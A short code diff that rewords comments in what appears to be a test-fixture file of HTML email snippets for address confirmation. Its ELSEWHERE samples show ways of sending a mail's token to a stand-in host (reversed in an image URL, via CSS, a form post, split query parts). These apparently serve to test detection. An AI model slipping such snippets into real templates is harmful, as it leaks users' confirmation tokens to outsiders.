@@ -42,7 +42,7 @@ PAINTED = {
     "a picture": '<table><tr><td background="https://pigeons.example/sky.png">'
     f'<a style="color:#fff" href="{LINK}">Confirm my address</a></td></tr></table>',
 }
-ELSEWHERE = {  # of the token, in a mail of HTML
+ELSEWHERE = {  # ways in which an HTML mail may send the token elsewhere
     "backwards": '<img alt="A pigeon" src="https://t.example/{{ token[::-1] }}.png">',
     "by a style": "<style>p { background: url(https://t.example/{{ token }}) }</style>",
     "by a form": '<form action="https://t.example" method="post">'
@@ -51,7 +51,7 @@ ELSEWHERE = {  # of the token, in a mail of HTML
     "in small parts": '<img alt="A pigeon" src="https://t.example/?'
     '{% for part in token|batch(12) %}{{ part|join }}.{% endfor %}">',
 }
-HELPING = {  # what a page may do by itself
+HELPING = {  # actions that a page may do by itself
     "looks again each minute": '<meta http-equiv="refresh" content="60">',
     "loads again": "<script>setTimeout(() => location.reload(), 30000)</script>",
     "takes one press only": "<script>"
